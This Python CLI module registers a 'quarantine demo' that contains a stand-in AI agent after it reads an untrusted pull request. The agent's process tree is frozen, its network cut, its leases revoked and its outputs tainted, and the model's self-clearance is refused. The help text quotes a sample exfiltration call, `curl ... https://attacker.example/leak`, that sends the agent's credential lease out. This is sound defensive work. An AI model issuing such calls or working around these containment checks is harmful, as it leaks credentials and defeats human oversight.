"""``python -m kernel_lib quarantine demo``: Example 0.2's containment timeline measured on this
machine (Failure Recovery, "Blast Radius Quarantine"; :mod:`kernel_lib.live.quarantine_demo`).

:func:`add_commands` registers the command on the CLI's subparsers. Nothing heavy is imported
before the command runs.
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import Any

#: the top-level command of this group and its one-line help (``python -m kernel_lib --help``)
COMMANDS = {"quarantine": "blast-radius quarantine for real: freeze a process tree (cgroup freezer or SIGSTOP), cut "
                          "its network namespace, revoke its leases, taint its output (Failure Recovery, Example 0.2)"}

_DESCRIPTION = """\
Blast-radius quarantine (Failure Recovery, tables 11-12, definition 0.3, Example 0.2), applied to
real processes on this machine."""

_DEMO_DESCRIPTION = """\
Run Example 0.2 for real and print its containment timeline, measured here, beside the chapter's.

The scene: a credential broker and a git tool service run as processes; a stand-in agent's
process tree (a parent, children and a grandchild, each advancing a counter file) runs in its own
cgroup and its own network namespace, joined to the host by a veth pair on a private /30, where
the tool service also listens. The trajectory's log (SQLite, through the dispatch gate) records a
note, an untrusted pull request, then a patch and a summary; a peer derives a review from the
patch and a changelog from the note. All artifacts go through the mediation gateway into the
SQLite taint ledger.

The model's next call is `curl ... https://attacker.example/leak` with its lease in a header. The
pre-execution egress check refuses the host and the supervisor quarantines the trajectory:

  stage 1 suspend  the cgroup freezer (v1 freezer.state, or v2 cgroup.freeze) freezes the tree;
                   without a writable freezer, SIGSTOP to its process group       -> freeze_ms
  stage 3 sever    the host end of the veth pair set down over netlink, then a blackhole root
                   qdisc on both ends; without namespaces (not root, no ip), the gateway refuses
                   every call of the trajectory                                    -> egress_cut_ms
  (stages 1 and 3 run side by side; then stages 2 and 4 side by side)
  stage 2 revoke   the broker revokes the trajectory's leases                      -> revocation_ms
  stage 4 taint    a TrajectoryQuarantined tombstone in the log (the trajectory becomes FROZEN:
                   never resumed or dispatched) and the ledger taints what it produced since
                   t_taint (where the pull request came in)                        -> taint_ms

Then it checks each guarantee from outside: the counters stopped (tree_stopped); a request from
inside the namespace that was answered before the cut gets no answer now
(request_after_cut_failed); a request presenting the revoked lease is refused by the service with
401 (revoked_lease_refused); a peer's read of the patch (TAINTED) and of the review derived from it
(SUSPECT) is refused while the note stays readable (tainted_read_refused, suspect_read_refused,
untainted_read_ok); the model's "I checked, it is clean" clearance is refused
(model_clearance_refused), an external verifier's clearance releases the review; the gate refuses
any further dispatch (dispatch_refused). Every process, cgroup, namespace and veth it made is
removed before it exits (clean, leftovers).

Figures labelled "measured" come from this run on this machine (they vary from run to run, more
so on a loaded machine); the chapter's are computed from Example 0.2's givens."""

_DEMO_EPILOG = """\
The cgroup freezer and network namespaces need root; elsewhere the demo falls back to SIGSTOP and
to severing at the gateway and says so in "choice". --suspend/--sever name a mechanism (an
unavailable one is an error instead of a fallback).

exit status: 0 every check held; 1 a check failed (the JSON says which); 2 a bad option or an
unavailable mechanism named explicitly (one `error:` line on stderr).

examples:
  python -m kernel_lib quarantine demo
  python -m kernel_lib quarantine demo --json
  python -m kernel_lib quarantine demo --suspend sigstop --sever gateway --json"""

#: the checks that must all hold for exit status 0
CHECKS = ("tree_stopped", "request_before_cut_ok", "request_after_cut_failed", "revoked_lease_refused",
          "tainted_read_refused", "suspect_read_refused", "untainted_read_ok", "model_clearance_refused",
          "verifier_clearance_released_peer", "dispatch_refused", "resume_refused", "clean")


def add_commands(subparsers: "argparse._SubParsersAction") -> argparse.ArgumentParser:
    from kernel_lib.cli._args import int_at_least

    p = subparsers.add_parser("quarantine", help=COMMANDS["quarantine"], description=_DESCRIPTION,
                              formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="quarantine_command", metavar="SUBCOMMAND")
    d = sub.add_parser("demo", help="Example 0.2 for real: the containment timeline measured on this machine",
                       description=_DEMO_DESCRIPTION, epilog=_DEMO_EPILOG,
                       formatter_class=argparse.RawDescriptionHelpFormatter)
    d.add_argument("--json", action="store_true", help="one JSON object (every figure and check)")
    d.add_argument("--suspend", choices=("auto", "cgroup", "cgroup-v1", "cgroup-v2", "sigstop"), default="auto",
                   help="stage 1's mechanism (default auto: cgroup v1 freezer, else v2, else SIGSTOP)")
    d.add_argument("--sever", choices=("auto", "netns", "gateway"), default="auto",
                   help="stage 3's mechanism (default auto: network namespace, else the gateway)")
    d.add_argument("--children", type=int_at_least(0), default=2, metavar="N",
                   help="children of the agent process (the first forks a grandchild; default 2, at most 8)")
    d.add_argument("--dir", default=None, metavar="DIR",
                   help="where the run's temporary directory is made (default: the system's)")
    d.set_defaults(func=_cmd_demo)
    p.set_defaults(func=lambda args: (p.print_help(sys.stderr), 2)[1])
    return p


def _fmt(v: Any) -> str:
    return "-" if v is None else f"{v:.3f}" if isinstance(v, float) else str(v)


def _print_text(r: dict[str, Any]) -> None:
    print(f"Example 0.2 on this machine: suspend by {r['suspend_mechanism']}"
          + (f" (cgroup v{r['cgroup_version']})" if r.get("cgroup_version") else "")
          + f", sever by {r['sever_mechanism']}")
    for stage, why in r["choice"]["reasons"].items():
        print(f"  {stage}: {why}")
    print(f"\n  {'event':40s} {'chapter ms':>11s} {'measured ms':>12s}")
    for row in r["timeline"]["rows"]:
        print(f"  {row['event']:40s} {_fmt(row['chapter_ms']):>11s} {_fmt(row['measured_ms']):>12s}")
    print(f"  measured: {r['timeline']['labels']['measured']}")
    print(f"  chapter: {r['timeline']['labels']['chapter']}")
    began = (r.get("report") or {}).get("started_ms") or {}
    if began.get("revoke") is not None or began.get("taint") is not None:
        print(f"  stages 2 and 4 began here at {_fmt(began.get('revoke'))} / {_fmt(began.get('taint'))} ms: they wait "
              "for stage 3, whose cut includes blackhole qdiscs on both veth ends; their own durations are below")
    print("\n  stage durations, ms        chapter   measured")
    for k in ("policy_check_ms", "egress_cut_ms", "freeze_ms", "taint_ms", "revocation_ms"):
        print(f"  {k:24s} {_fmt(r['timeline']['stage_ms']['chapter'][k]):>9s} {_fmt(r[k]):>10s}")
    print(f"\n  local seal at {_fmt(r['local_seal_ms'])} ms, one token is {_fmt(r['token_ms'])} ms: "
          + ("sealed before the next token" if r["sealed_within_one_token"] else "NOT sealed within one token"))
    print(f"  t_taint #{r['taint_origin']['taint_from_sequence']}: {r['taint_origin']['reason']}")
    print("\n  checks:")
    for k in CHECKS:
        print(f"    {k:36s} {r.get(k)}")
    print(f"  the revoked lease's request got HTTP {r.get('revoked_request_status')} from the service")
    if r["report"]["errors"]:
        print(f"  stage errors: {r['report']['errors']}")


def _cmd_demo(args: argparse.Namespace) -> int:
    from kernel_lib.errors import ConfigError
    from kernel_lib.live.quarantine_demo import run_quarantine_demo

    if args.children > 8:
        raise ConfigError(f"--children must be 0..8, got {args.children}")
    r = run_quarantine_demo(args.dir, suspend=args.suspend, sever=args.sever, children=args.children)
    if args.json:
        print(json.dumps(r, indent=2))
    else:
        _print_text(r)
    ok = all(r.get(k) is True for k in CHECKS) and not r["report"]["errors"]
    return 0 if ok else 1
